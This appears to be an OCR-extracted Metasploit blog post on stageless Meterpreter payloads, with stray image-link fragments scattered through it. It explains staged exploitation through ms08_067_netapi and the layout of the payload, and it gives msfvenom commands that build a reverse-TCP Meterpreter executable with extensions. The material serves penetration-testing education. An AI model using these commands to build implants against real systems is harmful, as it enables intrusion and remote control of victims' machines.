Link Search Menu Expand Document

Metasploit has long supported a mixture of staged and stageless payloads within its toolset. The mixture of payloads gives penetration testers a huge collection of options to choose from when performing exploitation. However, one option has been missing from this collection, and that is the notion of a stageless Meterpreter payload. In this post, I’d like to explain what this means, why you should care, and show how the latest update to Metasploit and Meterpreter provides this funky new feature as portended by Tod’s last Wrapup post.

What is a staged payload?

A staged payload is simply a payload that is as compact as possible and performs the single task of providingthe means for an attacker to upload something bigger. Staged payloads are often used in exploit scenarios due to the fact that binary exploitation often results in very little space for shellcode to be stored.

The initial shellcode (often referred to as stage0) may create a new connection back to the attacker’s machine and read a larger payload into memory. Once the payload has been received, stage0 passes control to the new, larger payload.

In Metasploit terms, this payload is called reverse_tcp, and the second stage (stage1) might be a standard command shell, or it might be something more complex, such as a Meterpreter shell or a VNC session. There are other staged options such as reverse_https and bind_tcp, both of which provide different transport options for opening the doorway for the second stage.

Exploitation (recap) with staged Meterpreter

Staged Meterpreter is Meterpreter as we currently know it. Every time we set PAYLOAD windows/meterpreter/... we are asking Metasploit to prepare a payload that is broken into two stages, the second of which gives us a Meterpreter session. For the benefit of those who aren’t familiar with the process of exploitation with staged payloads, let’s take a look at what goes on when we use this payload to exploit a Windows machine using ms08_067_netapi.

The following image is a representation of two machines, an attacker and a target. The former is running Metasploit with the ms08_067_netapi exploit configured to use a staged Meterpreter payload that has stage0 set to reverse_tcp using port 4444. The latter is an instance of Windows running a vulnerable implementation of SMB listening on port 445.


When the payload is executed, Metasploit creates a listener onthe correct port, and then establishes a connection to the target SMB service. Behind the scenes, when the target SMB service receives the connection, a function is invoked which contains a stack buffer that the attacking machine will overflow.


The attacking machine then sends data that is bigger than the target expects. This data, which contains stage0 and a small bit of exploit-specific code, overflows the target buff. The exploit-specific code allows for the attacker to gain control over EIP and redirect process execution to the stage0 shellcode.


At this point, the attacker has control of execution within the SMB service, but doesn’t really have the ability to do much else with it due to the size constraint. When stage0 (reverse_tcp) executes, it connects back to the attacker on the required port, which is ready and waiting with stage1. In the case of Meterpreter, stage1 is a DLL called metsrv.


The metsrv DLL isthen sent to the target machine through this reverse connection. This is what is happening when we see the “Sending stage …” message in msfconsole.

The byte count that is shown in the “Sending stage” message represents the entire metsrv component as well as a configuration block. Once this has been pushed to the target machine, the stage0 shellcode writes this into memory.


Once stage1 is in memory, stage0 passes control to it by simply jumping to the location where the payload was written to. In the case of metsrv, the first 60(ish) bytes is a clever collection of shellcode that also looks similar to a valid DOS header. This shellcode, when executed, uses Reflective DLL Injection to remap and load metsrv into memory in such a way that allows it to function correctly as a normal DLL without writing it to disk or registering it with the hostprocess. It then invokes DllMain() on this loaded DLL, and the Meterpreter that we know and love takes over.

From here, MSF pushes up two Meterpreter extension DLLs: stdapi and priv. Both of these are also reflectively loaded in the same way the original metsrv DLL was. At this point, Meterpreter is now ready and willing to take your commands.

What’s wrong with staged Meterpreter?

Staged Meterpreter, in scenarios like that shown above, is a wonderful thing and works very well. However, theare other scenarios for compromise where this approach is less than ideal.

In case you didn’t notice, in order to get a Meterpreter session running in the example scenario we uploaded the following:

  • stage0: large buffer of junk plus approximately 350b of shellcode.
  • stage1: 32bit metsrv DLL approximately 169kb plus the configuration block.
  • stage2: 32bit stdapi DLL approximately 332kb.
  • stage3: priv DLL approximately 104kb.

For a single session, the grand total of 605kb (ish) doesn’t feel like much. It’s certainly nothing compared to the 1mb+ we used to serve up! But when you end up in the situation where many shells come in at once, this adds up very quickly.

The most common example of where this falls down is the case where penetration testers are in a low-bandwidth or high-latency environments and have pre-generated a staged Meterpreter binary that is then hosted outside of the attacker’s machine. Assessment targets download and invoke this binary, which results in the attacker gaining a Meterpreter shell on the target machine.

The data or time cost of uploading metsrv, stdapi and priv for every single shell becomes unwieldy or outright impossible, even for a small number of shells. For large-scale compromise, viaapproaches such as GPO updates or SCCM packages, handling the volume of incoming connections at once can be bad enough; add the three DLL uploads to this mix and you have a recipe for lost shells and sadness. Nobody likes losing shells. Nobody likes sadness.

It’s hard to believe itpossible, but in this case the following image could be considered a nightmare.

[*] Sending stage (173056 bytes) to
[*] Meterpreter session 4684 opened ....
[*] Sending stage (173056 bytes) to
[*] Meterpreter session 4685 opened ....
[*] Sending stage (173056 bytes) to
[*] Meterpreter session 4686 opened ....
[*] Sending stage (173056 bytes) to
[*] Meterpreter session 4687 opened ....
[*] Sending stage (173056 bytes) to
[*] Meterpreter session 4688 opened ....
[*] Sending stage (173056 bytes) to[*] Meterpreter session 4689 opened ....

In such ascenario, it would be better to have the ability to create a stage0 which includes metsrv and any number of Meterpreter extensions. This means that the payload already includes the important part of the Meterpreter functionality, along with all the features that the attacker might require. When invoked, the Meterpreter instance already has all it needs to function, and hence Metasploit doesn’t need to waste time or bandwidth performing the usual uploads that are required with the staged approach.

Stageless Meterpreter is exactly that. It is a binary that includes all of the required parts of Meterpreter, along with any required extensions, all bundled into one.

What does stageless Meterpreter look like?

As with the staged version, stageless Meterpreter payloads begin with a small bootstrapper. However, this bootstrapper looks very different. Staged Meterpreter payload bootstrappers contain shellcode that performs network communications in order to read in the second stage prior to invoking it. The stageless counterparts don’t have this responsibility, as it is instead handled by metsrv itself. As a result, what we know as stage0 completely disappears.

Instead, that which is known as stage1 in staged Meterpreter land becomes the bootstrapper for the payload in stageless Meterpreter land. To make this clear, let’s take a look at the process.

When creating the payload, Metasploit first reads a copy of the metsrv DLL into memory. It then overwrites the DLL’s DOS header with a selection of shellcode that does the following:

  1. Performs a simple GetPC routine.
  2. Calculates the location of the ReflectiveLoader() function in metsrv.
  3. Invokes the ReflectiveLoader() function in metsrv.
  4. Calculates the location of the start of a custom Configuration Block that contains information about transports, extensions and extension-specific initialisation scripts. This configuration blockappears in memory immediately after metsrv.
  5. Invokes DllMain() on metsrv, passing in DLL_METASPLOIT_ATTACH along with the pointer to the configuration block. This is where metsrv takes over.

With this shellcode stub wired into the DOS header, Metasploit adds the entire binary blob to an in-memorypayload buffer and then iterates through the list of chosen extensions. For each extension that is specified, Metasploit does the following:

  1. Loads the extension DLL into memory.
  2. Calculates the size of the DLL.
  3. Writes the size of the DLL as a 32-bit value to the configuration block.
  4. Writes the entire body of the DLL, as-is, to the end of the configuration block.

Once the end of the list of extensions is reached, the last thing that is written to the payload buffer is a 32-bit representation of 0 (NULL) which indicates that the list of extensions has been terminated. This NULL value is what metsrv will look for when iterating through the list of extensions so that it knowswhen to stop. After this, any extension initialisation scripts are wired in (though that’s beyond the scope of this article).

The final payload layout looks like the following:

| |        |                    Configuration Block                    |
|b|        |+---+-+---+-+---+---+---+-+|
|o|        ||  session  |S|         |S|         |       |           |N||
|o| metsrv ||    and    |i|  ext 1  |i|  ext 2  |  ...  | ext inits |U||
|t|        || transport |z|         |z|         |       |           |L||
| |        ||  config   |e|         |e|         |       |           |L||
| |        |+---+-+---+-+---+---+---+-+|

This payload can be embedded in an exe file, encoded, thrown into an exploit (assuming there’s room!), and who knows what else! The important thing is that we now have all of the bits that we need in the one payload.

How do I use stageless Meterpreter?

Firstly, it has a different name! It follows the same convention as all of the other staged vs stageless payloads:

Reverse TCPwindows/meterpreter/reverse_tcpwindows/meterpreter_reverse_tcp
Reverse HTTPSwindows/meterpreter/reverse_httpswindows/meterpreter_reverse_https
Bind TCPwindows/meterpreter/bind_tcpwindows/meterpreter_bind_tcp
Reverse TCPIPv6windows/meterpreter/reverse_ipv6_tcpwindows/meterpreter_reverse_ipv6_tcp

To create a payload using one of these babies, you use msfvenom just like you would any other payload.

To make a stageless payload that contains only metsrv we do the following:

$ ./msfvenom -p windows/meterpreter_reverse_tcp LHOST= LPORT=4444 -f exe -o stageless.exe

To add extensions to the payload, we can make use of the EXTENSIONS parameter, which takes a comma-separated list of extension names.

$ ./msfvenom -p windows/meterpreter_reverse_tcp LHOST= LPORT=4444 EXTENSIONS=stdapi,priv -f exe -o stageless.exe

With a payload created, we can set up a listener which will handle the connection using msfconsole.

Note that the EXTENSIONS parameter isn’t set in the handler. This is because the handler isn’t responsible for them as they’re already in the payload binary.

When a session is established, you’ll also note the lack of the “Sending stage …” message! This shows that the upload of stage1 didn’t happen as it’s not needed. If the payload that was invoked also contained stdapi and priv, then absolutely no uploads have occurred at this point.

Congratulations, you’re dancing with stageless Meterpreter!At this point, all of the pre-loaded extensions have been loaded into Meterpreter and are available for use. However, Metasploit is yet to know about them. To initiate client-site wiring of any of the pre-loaded extensions, the user can just type use <extension> just like they used to. Metasploit will check to see ifthe extension already exists in the target instance, and if it does, it will skip the extension upload and just wire-up the functions on the client side. If the extension is missing, then it will upload it and wire-up the functions on the fly just like italways has done.

If you’re working with meterpreter_reverse_https, you’ll notice that when new shells come in they appear just like an orphaned instance. This is expected behaviour, because a stageless session can’t and won’t look any different to an old session that hasn’t been in touchwith Metasploit for a while.